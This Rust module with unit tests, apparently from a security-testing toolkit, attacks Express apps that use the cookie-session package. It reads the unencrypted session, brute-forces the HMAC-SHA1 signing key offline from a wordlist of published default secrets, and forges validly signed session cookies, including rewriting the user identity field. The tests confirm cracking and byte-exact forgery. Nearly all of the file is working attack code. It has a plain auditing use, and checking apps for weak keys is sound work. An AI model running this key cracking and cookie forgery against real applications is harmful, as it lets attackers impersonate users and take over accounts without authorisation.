//! Express `cookie-session` as an attacker handles it: read the session
//! without the key, crack the key offline, sign a new one.
//!
//! The npm package `cookie-session` keeps the whole session in the cookie
//! (CWE-565, ASVS 3.5.2): cookie `NAME` holds the session as JSON in
//! standard base64, readable by anyone. Its companion cookie `NAME.sig` is
//! what `keygrip` signs (cookies' `signed: true`): HMAC-SHA1 of the string
//! `NAME=VALUE` with the first of the app's `keys`, base64 with `/` as `_`,
//! `+` as `-` and the `=` padding dropped. Signed is not secret, and a key
//! copied from a README (CWE-521) falls to a wordlist.
//!
//! Only the format glue is written here; HMAC-SHA1 is the `hmac` and `sha1`
//! crates.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hmac::{Hmac, Mac};
use serde_json::{Map, Value};
use sha1::Sha1;

/// A cookie-session session read without its key.
#[derive(Debug, Clone, PartialEq)]
pub struct CookieSession {
    /// The session cookie's name; the signature is in `{name}.sig`.
    pub name: String,
    /// The session object, as `JSON.parse` gives it.
    pub data: Map<String, Value>,
    /// The cookie's value as it came: `name=value` is what is signed.
    pub value: String,
    pub signature: Vec<u8>,
}

/// The companion cookie that carries the signature of cookie `name`.
pub fn sig_name(name: &str) -> String {
    format!("{name}.sig")
}

/// Decodes cookie `name` (base64 JSON object) with its `.sig` companion's
/// value `sig`; `None` for anything else.
pub fn decode(name: &str, value: &str, sig: &str) -> Option<CookieSession> {
    let Value::Object(data) = serde_json::from_slice(&STANDARD.decode(value).ok()?).ok()? else {
        return None;
    };
    Some(CookieSession {
        name: name.to_owned(),
        data,
        value: value.to_owned(),
        signature: URL_SAFE_NO_PAD.decode(sig).ok()?,
    })
}

/// Keygrip's HMAC over `name=value` under `key`.
fn mac(key: &[u8], name: &str, value: &str) -> Hmac<Sha1> {
    let mut mac = Hmac::<Sha1>::new_from_slice(key).expect("HMAC takes any key length");
    mac.update(format!("{name}={value}").as_bytes());
    mac
}

/// The key of `candidates` that reproduces the `.sig` cookie, if any:
/// offline, not one request to the app.
pub fn crack<'a>(
    session: &CookieSession,
    candidates: impl IntoIterator<Item = &'a str>,
) -> Option<&'a str> {
    candidates.into_iter().find(|key| {
        mac(key.as_bytes(), &session.name, &session.value)
            .verify_slice(&session.signature)
            .is_ok()
    })
}

/// The two cookie values, session and `.sig`, that cookie-session would
/// set for `data` in cookie `name` under `key`.
pub fn sign(name: &str, data: &Map<String, Value>, key: &[u8]) -> (String, String) {
    let value = STANDARD.encode(Value::Object(data.clone()).to_string());
    let sig = URL_SAFE_NO_PAD.encode(mac(key, name, &value).finalize().into_bytes());
    (value, sig)
}

/// The session key whose value is `username` (the one a forger rewrites).
pub fn identity_key(session: &CookieSession, username: &str) -> Option<String> {
    super::key_holding(&session.data, username)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::tokens::{PUBLISHED_SECRETS, wordlist};

    /// Written by keygrip 1.1.0 (cookie-session 2.1.1's signer) under node:
    /// `Buffer.from(JSON.stringify({user: 'bob'})).toString('base64')` and
    /// `Keygrip(['key1', 'key2']).sign('session=' + value)`; `key1` is the
    /// key in cookie-session's README.
    const REAL: (&str, &str) = ("eyJ1c2VyIjoiYm9iIn0=", "uJ1Dqx_t3D5_0Y4wENfMmFWP2eE");
    /// `{user: 'bob', note: 'ü?>>'}` in cookie `express:sess` under
    /// `keyboard cat`: a `+` in the value's base64, a `-` in the signature's.
    const REAL_PLUS: (&str, &str) = (
        "eyJ1c2VyIjoiYm9iIiwibm90ZSI6IsO8Pz4+In0=",
        "LXoFIta4w4acS1H0BYxDF7erJ9M",
    );

    fn data(value: Value) -> Map<String, Value> {
        value.as_object().cloned().expect("an object")
    }

    #[test]
    fn a_real_cookie_session_is_read_and_cracked_with_the_wordlist() {
        let session = decode("session", REAL.0, REAL.1).expect("a cookie-session");
        assert_eq!(session.data, data(json!({"user": "bob"})));
        assert_eq!(identity_key(&session, "bob").as_deref(), Some("user"));
        assert_eq!(crack(&session, wordlist(PUBLISHED_SECRETS)), Some("key1"));
        let plus = decode("express:sess", REAL_PLUS.0, REAL_PLUS.1).expect("a cookie-session");
        assert_eq!(plus.data["note"], json!("ü?>>"));
        assert_eq!(
            crack(&plus, wordlist(PUBLISHED_SECRETS)),
            Some("keyboard cat")
        );
    }

    #[test]
    fn signing_reproduces_what_keygrip_wrote_byte_for_byte() {
        let (value, sig) = sign("session", &data(json!({"user": "bob"})), b"key1");
        assert_eq!((value.as_str(), sig.as_str()), REAL);
    }

    #[test]
    fn the_signature_covers_the_cookie_name_and_only_the_key_verifies() {
        let (value, sig) = sign("session", &data(json!({"user": "alice"})), b"key1");
        let forged = decode("session", &value, &sig).expect("a cookie-session");
        assert_eq!(crack(&forged, ["keyboard cat", "key1"]), Some("key1"));
        let renamed = decode("other", &value, &sig).expect("a cookie-session");
        assert_eq!(crack(&renamed, ["key1"]), None);
        let mut key = [0u8; 32];
        rand::RngCore::fill_bytes(&mut rand::rng(), &mut key);
        let (value, sig) = sign("session", &data(json!({"user": "bob"})), &key);
        let random = decode("session", &value, &sig).expect("a cookie-session");
        assert_eq!(crack(&random, wordlist(PUBLISHED_SECRETS)), None);
    }

    #[test]
    fn jwts_flask_sessions_and_opaque_ids_are_no_cookie_session() {
        let jwt = crate::tokens::sign_hs256(&data(json!({"sub": "bob"})), b"k");
        for value in [jwt.as_str(), "", "abc", "s%3Aabc.def", "WzEsMl0="] {
            assert!(decode("session", value, REAL.1).is_none(), "{value:?}");
        }
    }
}
